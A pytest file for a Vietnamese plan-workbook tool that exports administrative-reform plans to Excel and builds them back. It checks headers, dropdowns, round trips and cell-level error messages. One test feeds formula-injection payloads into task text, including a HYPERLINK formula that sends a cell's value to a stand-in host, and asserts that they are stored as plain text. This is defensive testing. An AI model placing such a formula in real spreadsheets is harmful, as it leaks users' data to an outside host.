"""The plan-entry workbook: `cchc plan new`, `plan export`, `plan build`."""

from __future__ import annotations

import shutil
import tomllib
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from cchc_lib.cli import main
from cchc_lib.core.errors import DataError
from cchc_lib.plan import layout
from cchc_lib.plan.model import load_plan
from cchc_lib.plan.workbook import build_plan, export_plan, new_workbook

from .conftest import PLAN_DIR

TABLES = ("areas", "objectives", "targets", "tasks", "units", "corrections")


def _header_col(ws, header: str) -> int:
    return [c.value for c in ws[1]].index(header) + 1


def _set(path: Path, sheet: str, row: int, header: str, value) -> None:
    wb = load_workbook(path)
    ws = wb[sheet]
    ws.cell(row=row, column=_header_col(ws, header), value=value)
    wb.save(path)


def _errors(xlsx: Path, tmp_path: Path) -> str:
    with pytest.raises(DataError) as exc:
        build_plan(xlsx, "ke-hoach-moi", tmp_path / "plans")
    return "\n".join(str(i) for i in exc.value.issues)


@pytest.fixture
def exported(tmp_path: Path) -> Path:
    return export_plan(str(PLAN_DIR), tmp_path / "ke-hoach.xlsx")


def test_new_workbook_has_a_sheet_per_plan_part_with_vietnamese_headers_and_dropdowns(tmp_path):
    path = new_workbook(tmp_path / "moi.xlsx", year=2025)
    wb = load_workbook(path)
    assert wb.sheetnames[0] == layout.HELP_SHEET
    for title in (
        layout.META_SHEET,
        "Lĩnh vực",
        "Mục tiêu chung",
        "Chỉ tiêu",
        "Nhiệm vụ",
        "Phụ lục",
        "Đơn vị",
        layout.RULES_SHEET,
    ):
        assert title in wb.sheetnames
    targets = wb["Chỉ tiêu"]
    headers = [c.value for c in targets[1]]
    assert headers[:3] == ["Mã chỉ tiêu", "Lĩnh vực", "Nội dung (nguyên văn)"]
    formulas = {dv.formula1 for dv in targets.data_validations.dataValidation}
    assert '"≥,≤,="' in formulas
    assert any("Đơn vị" in f for f in formulas) and any("Lĩnh vực" in f for f in formulas)
    assert any("%" in f and "xếp loại" in f for f in formulas)
    tasks = wb["Phụ lục"]
    lists = wb[layout.LISTS_SHEET]
    assert "Quý I/2025" in [c.value for c in lists["A"]] and lists.sheet_state == "hidden"
    assert any(layout.LISTS_SHEET in dv.formula1 for dv in tasks.data_validations.dataValidation)
    help_text = "\n".join(str(c.value) for c in wb[layout.HELP_SHEET]["A"] if c.value)
    assert "cchc plan build" in help_text and "ví dụ: T3.2.01" in help_text


def _same_plan(a, b) -> None:
    for name in TABLES:
        pd.testing.assert_frame_equal(getattr(a, name), getattr(b, name), check_dtype=True, obj=name)
    assert a.meta == b.meta


PLANS = sorted(p for p in PLAN_DIR.parent.iterdir() if (p / "meta.toml").exists())


@pytest.mark.parametrize("plan_dir", PLANS, ids=[p.name for p in PLANS])
@pytest.mark.slow
def test_export_then_build_gives_the_same_plan(plan_dir, tmp_path):
    xlsx = export_plan(str(plan_dir), tmp_path / "ke-hoach.xlsx")
    folder = build_plan(xlsx, plan_dir.name, tmp_path / "plans")
    assert folder == tmp_path / "plans" / plan_dir.name
    _same_plan(load_plan(plan_dir), load_plan(folder))
    rules = plan_dir / "rules.toml"
    if rules.exists():
        assert tomllib.loads((folder / "rules.toml").read_text(encoding="utf-8")) == tomllib.loads(
            rules.read_text(encoding="utf-8")
        )


@pytest.mark.slow
def test_plan_text_that_looks_like_a_formula_is_exported_as_text(tmp_path):
    plan = tmp_path / PLAN_DIR.name
    shutil.copytree(PLAN_DIR, plan)
    tasks = pd.read_csv(plan / "tasks.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    payloads = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+ Tổ chức hội nghị", "@SUM(A1)", "-1+2"]
    tasks.loc[: len(payloads) - 1, "text"] = payloads
    tasks.to_csv(plan / "tasks.csv", index=False, encoding="utf-8-sig")
    wb = load_workbook(export_plan(str(plan), tmp_path / "ke-hoach.xlsx"))
    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if c.value in payloads}
    assert set(cells) == set(payloads)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())


@pytest.mark.slow
def test_plan_rules_and_extra_meta_keys_survive_the_round_trip(tmp_path):
    src = tmp_path / "src" / "hai-duong-2024"
    shutil.copytree(PLAN_DIR, src)
    rules = '[weights]\n"II.1" = 0.5\nsurvey = ["T3.03", "T6.23"]\n\n[rating]\nlevel = 3\nname = "khá"\n'
    (src / "rules.toml").write_text(rules, encoding="utf-8")
    meta = src / "meta.toml"  # a top-level key goes before any [table] of the file
    meta.write_text('local_code = "2024"\n' + meta.read_text(encoding="utf-8"), encoding="utf-8")
    xlsx = export_plan(str(src), tmp_path / "x.xlsx")
    folder = build_plan(xlsx, "hai-duong-2024", tmp_path / "plans")
    assert tomllib.loads((folder / "rules.toml").read_text(encoding="utf-8")) == tomllib.loads(rules)
    assert load_plan(folder).meta["local_code"] == "2024"  # a text that looks like a number stays text
    _same_plan(load_plan(src), load_plan(folder))


@pytest.mark.slow
def test_a_missing_sheet_is_named(exported, tmp_path):
    wb = load_workbook(exported)
    del wb["Chỉ tiêu"]
    wb.save(exported)
    assert "thiếu trang tính 'Chỉ tiêu'" in _errors(exported, tmp_path)


@pytest.mark.slow
def test_an_unknown_unit_names_sheet_row_and_header(exported, tmp_path):
    _set(exported, "Phụ lục", 3, "Cơ quan chủ trì", "Ban Không Có Thật")
    msg = _errors(exported, tmp_path)
    assert "[trang Phụ lục], dòng 3, cột 'Cơ quan chủ trì'" in msg and "Ban Không Có Thật" in msg


@pytest.mark.slow
def test_a_duplicate_id_names_both_rows(exported, tmp_path):
    _set(exported, "Chỉ tiêu", 3, "Mã chỉ tiêu", "T1.01")
    msg = _errors(exported, tmp_path)
    assert "[trang Chỉ tiêu]" in msg and "'T1.01' bị trùng ở các dòng 2, 3" in msg and "cột 'Mã chỉ tiêu'" in msg


@pytest.mark.slow
def test_a_duplicate_task_id_across_the_two_task_sheets_is_an_error(exported, tmp_path):
    _set(exported, "Phụ lục", 2, "Mã nhiệm vụ", "NV1.01")
    assert "mã 'NV1.01' đã có ở" in _errors(exported, tmp_path)


@pytest.mark.slow
def test_an_unparseable_deadline_names_the_cell(exported, tmp_path):
    _set(exported, "Phụ lục", 4, "Thời hạn", "sớm nhất có thể")
    msg = _errors(exported, tmp_path)
    assert "[trang Phụ lục], dòng 4, cột 'Thời hạn'" in msg and "không đọc được thời hạn" in msg


@pytest.mark.slow
def test_a_value_that_is_not_a_number_names_the_cell(exported, tmp_path):
    _set(exported, "Chỉ tiêu", 2, "Giá trị", "một trăm")
    msg = _errors(exported, tmp_path)
    assert "[trang Chỉ tiêu], dòng 2, cột 'Giá trị'" in msg and "cần một số" in msg


@pytest.mark.slow
def test_every_problem_is_listed_at_once_and_the_cli_exits_2(exported, tmp_path, capsys):
    _set(exported, "Chỉ tiêu", 2, "Giá trị", "một trăm")
    _set(exported, "Chỉ tiêu", 3, "Mã chỉ tiêu", "T1.01")
    _set(exported, "Phụ lục", 3, "Cơ quan chủ trì", "Ban Không Có Thật")
    _set(exported, "Phụ lục", 4, "Thời hạn", "sớm nhất có thể")
    _set(exported, layout.META_SHEET, 5, layout.VALUE, "hai nghìn")  # the year
    code = main(["plan", "build", str(exported), "--id", "ke-hoach-moi", "--out", str(tmp_path / "plans")])
    err = capsys.readouterr().err
    assert code == 2
    for part in ("cần một số", "bị trùng", "Ban Không Có Thật", "không đọc được thời hạn", "Năm kế hoạch"):
        assert part in err, part
    assert "Traceback" not in err
    assert not (tmp_path / "plans" / "ke-hoach-moi").exists()


@pytest.mark.slow
def test_cli_new_export_and_build_write_files(tmp_path, capsys):
    assert main(["plan", "new", "--out", str(tmp_path / "moi.xlsx"), "--year", "2025"]) == 0
    assert (tmp_path / "moi.xlsx").exists()
    assert main(["plan", "export", str(PLAN_DIR), "--out", str(tmp_path / "x.xlsx")]) == 0
    assert main(["plan", "build", str(tmp_path / "x.xlsx"), "--id", "ban-sao", "--out", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "51 chỉ tiêu" in out and load_plan(tmp_path / "ban-sao").plan_id == "ban-sao"
